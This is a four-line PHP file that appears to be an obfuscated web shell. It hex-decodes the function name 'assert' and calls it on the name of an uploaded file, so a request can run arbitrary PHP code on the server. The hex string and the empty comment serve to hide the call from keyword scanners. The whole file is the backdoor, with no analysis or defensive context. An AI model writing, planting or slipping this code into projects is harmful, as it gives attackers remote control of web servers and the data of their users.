<?php
$val = $_FILES['qq']['name'];
$f = hex2bin('617373657274');
$f('/*' . '*/' . $val);
